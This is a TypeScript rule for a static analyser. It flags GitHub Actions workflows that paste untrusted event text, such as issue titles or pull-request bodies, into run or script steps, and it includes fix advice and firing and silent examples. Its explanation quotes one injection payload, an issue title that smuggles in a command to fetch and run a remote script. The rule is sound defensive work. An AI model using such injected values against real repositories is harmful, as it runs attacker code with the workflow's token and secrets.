import type { Rule } from '../../ruleModel.ts';

const FREE_TEXT =
  '\\$\\{\\{\\s*(?:github\\.event\\.(?:issue|pull_request|comment|review|review_comment|discussion|head_commit|commits|pages|workflow_run)[\\w.*\\[\\]]*\\.(?:title|body|message|name|email|page_name|ref|label|default_branch|head_branch|login)|github\\.head_ref|github\\.event\\.inputs\\.\\w+)\\s*\\}\\}';

export const rule: Rule = {
  id: 'workflow-script-injection',
  title: 'Workflow script with text from outside',
  kind: 'prevention',
  severity: 'HIGH',
  problemType: 'Security',
  languages: ['yaml'],
  message: 'This text is pasted into the script before it runs, and anyone on the internet can write it.',
  actionRequired: 'Put the value into an environment variable and use the variable in the script.',
  why: 'An issue titled `"; curl evil.sh | sh; "` becomes part of the shell script. It then runs with the workflow’s token and secrets, and can change the repository or publish a release.',
  howToFix:
    'Hand the value over as a variable, which the shell does not read as code:\n\n```yaml\n- env:\n    TITLE: ${{ github.event.issue.title }}\n  run: echo "$TITLE"\n```',
  references: [
    'https://docs.github.com/en/actions/concepts/security/script-injections',
    'https://cwe.mitre.org/data/definitions/94.html',
  ],
  match: [
    {
      kind: 'tree',
      rule: {
        kind: 'block_mapping_pair',
        all: [
          { has: { field: 'key', regex: '^(?:run|script)$' } },
          { has: { field: 'value', all: [{ regex: 'github' }, { pattern: '$SCRIPT' }] } },
        ],
      },
      where: [{ path: ['**/.github/**', '**/action.{yml,yaml}'] }, { capture: 'SCRIPT', matches: FREE_TEXT }],
    },
  ],
  examples: {
    fires: [
      {
        path: '.github/workflows/greet.yml',
        code: 'jobs:\n  greet:\n    steps:\n      - run: echo "${{ github.event.issue.title }}"\n',
      },
      {
        path: '.github/workflows/greet.yml',
        code: 'jobs:\n  greet:\n    steps:\n      - uses: actions/github-script@v7\n        with:\n          script: |\n            console.log("${{ github.event.pull_request.body }}")\n      - run: |\n          git checkout ${{ github.head_ref }}\n',
        count: 2,
      },
    ],
    silent: [
      {
        path: '.github/workflows/greet.yml',
        code: 'jobs:\n  greet:\n    steps:\n      - env:\n          TITLE: ${{ github.event.issue.title }}\n        run: echo "$TITLE"\n      - run: echo "${{ github.sha }} ${{ github.event.pull_request.number }}"\n',
      },
      { path: 'deploy/values.yml', code: 'run: echo "${{ github.event.issue.title }}"\n' },
    ],
  },
};
